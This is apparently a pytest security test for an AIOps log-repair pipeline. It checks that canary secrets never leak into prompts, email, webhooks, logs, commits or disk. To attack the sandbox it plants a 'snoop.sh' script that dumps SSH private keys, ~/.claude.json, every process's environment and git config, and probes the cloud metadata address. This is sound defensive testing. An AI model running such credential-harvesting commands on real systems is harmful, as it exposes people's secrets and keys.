"""A secret of ours appears nowhere (S8), whoever asks for it: the log, a test of the repository, people."""

import base64
import email
from pathlib import Path

import pytest
from killed_scene import fix

from aiops_core.repair import sandbox_problem
from aiops_core.testing.http_peer import HttpPeer
from aiops_core.testing.messages_api import MessagesApi
from aiops_core.testing.pipeline import run_pipeline
from aiops_core.testing.smtp import SmtpServer

MODEL_KEY = "sk-ant-api03-canary-model-0123456789abcdef"
PASSWORD = "canary-mail-0123456789abcdef"
AMBIENT = "canary-ambient-0123456789abcdef"
HOME = "canary-home-0123456789abcdef"
SNOOP = """\
cd "$(dirname "$0")"
for place in STATE/aiops.db STATE/../pipeline.yaml ~/.ssh/id_ed25519 OURS/.ssh/id_ed25519 ~/.claude.json; do
  cat "$place"
done
env
for each in /proc/[0-9]*; do tr '\\0' '\\n' < $each/environ; tr '\\0' '\\n' < $each/cmdline; done
cat .git/config; git config --list; git remote -v
python3 -c "import urllib.request as u; u.urlopen('http://169.254.169.254/', timeout=1)"
"""
TEST = """\
import subprocess
import unittest
from pathlib import Path
from shop.cart import total

FOUND = subprocess.run(["sh", "snoop.sh"], capture_output=True, text=True, errors="replace")


class Totals(unittest.TestCase):
    def test_total(self):
        print(FOUND.stdout, FOUND.stderr)
        Path("found.txt").write_text(FOUND.stdout)
        self.assertEqual(total([1, 2]), 3)
"""
LOG = """\
2026-11-21 03:00:00,000 ERROR shop: push with {token} failed, password={password}
Traceback (most recent call last):
  File "/srv/tests/test_cart.py", line 13, in test_total
    self.assertEqual(total([1, 2]), 3)
  File "/srv/shop/cart.py", line 2, in total
    return sum(prices) + 1
AssertionError: 4 != 3 for {token} and {key}
2026-11-21 03:00:01,000 INFO shop: goes on
"""
PIPELINE = """\
state: ./state
pipelines:
  shop:
    sources: [{{uses: file, with: {{paths: [./shop.log], start: beginning}}}}]
    detectors: [python]
    repository:
      {{url: "{url}", token: "${{env:FORGE_TOKEN}}", paths: {{/srv/: ""}}, test: python3 -m unittest discover -s tests -t .}}
    analyzers: [{{uses: claude, with: {{api_key: "${{env:MODEL_KEY}}", base_url: "{api}"}}}}]
    actions: [{{uses: {action}, with: {{{settings}}}, mode: auto}}]
    notifiers:
      - uses: email
        with: {{to: [oncall@example.org], sender: a@example.org, host: 127.0.0.1, port: {port}, security: none,
               username: aiops, password: "${{env:MAIL_PASSWORD}}"}}
      - {{uses: webhook, with: {{url: "{hook}/hook"}}}}
    policy: {{max_age: 3650d}}
"""


@pytest.fixture
def ran(bench, tmp_path, monkeypatch, recorded_git):
    """Return the canaries, and every place they could have come to, after a whole run."""
    if (reason := sandbox_problem()) is not None:
        pytest.skip(f"bubblewrap does not work here: {reason}")
    root = tmp_path / "run"
    monkeypatch.setenv("UNRELATED_SECRET", AMBIENT)
    key_file = Path.home() / ".ssh/id_ed25519"
    key_file.parent.mkdir()
    key_file.write_text(HOME)
    snoop = SNOOP.replace("STATE", str(root / "state")).replace("OURS", str(Path.home()))
    for path, content in {"tests/__init__.py": "", "tests/test_cart.py": TEST, "snoop.sh": snoop}.items():
        bench.bare.add_commit("main", path, content)
    with (
        MessagesApi([fix()]) as api,
        HttpPeer() as peer,
        SmtpServer(users={"aiops": PASSWORD}, require_tls=False) as smtp,
    ):
        settings = ", ".join(f'{name}: "{value}"' for name, value in bench.settings().items())
        text = PIPELINE.format(
            url=bench.setup.repository["url"], api=api.url, action=bench.action_type.words.component,
            settings=settings, port=smtp.port, hook=peer.url,
        )  # fmt: skip
        log = LOG.format(token=bench.token, password=PASSWORD, key=MODEL_KEY)
        environment = {"FORGE_TOKEN": bench.token, "MODEL_KEY": MODEL_KEY, "MAIL_PASSWORD": PASSWORD}
        result = run_pipeline(text, {"shop.log": log}, root, environment=environment)
        places = {
            "prompts": "".join(request.body.decode() for request in api.requests),
            "requests": repr([(asked.path, asked.query, asked.body) for asked in bench.api.requests]),
            "mail": "".join(text_of(mail.content) for mail in smtp.messages),
            "webhook": "".join(request.body.decode() for request in peer.requests),
            "log": result.log,
            "faults": repr(result.faults),
            "argv": "".join(call.arguments for call in recorded_git.calls),
            "git's environment": repr([call.environment for call in recorded_git.calls if call.settings]),
            "commits": bench.bare.git("log", "-p", "--all"),
            "disk": disk(root / "state"),
        }
    return result, places, (bench.token, MODEL_KEY, PASSWORD, AMBIENT, HOME)


def text_of(content):
    parts = email.message_from_bytes(content).walk()
    return "".join((part.get_payload(decode=True) or b"").decode("utf-8", "replace") for part in parts)


def disk(root):
    return "".join(path.read_bytes().decode("utf-8", "replace") for path in root.rglob("*") if path.is_file())


def test_s8_a_canary_secret_appears_nowhere(ran, bench):
    result, places, canaries = ran

    (report,) = result.reports
    assert report.change.after.passed and "PATH=" in report.change.after.output
    assert bench.seen() and all(places[name] for name in places if name != "faults")
    found = [(place, canary) for place, text in places.items() for canary in canaries if canary in text]
    assert found == []
    encoded = base64.b64encode(f"x-access-token:{bench.token}".encode())[-24:].decode()
    assert [name for name in places if name != "git's environment" and encoded in places[name]] == []
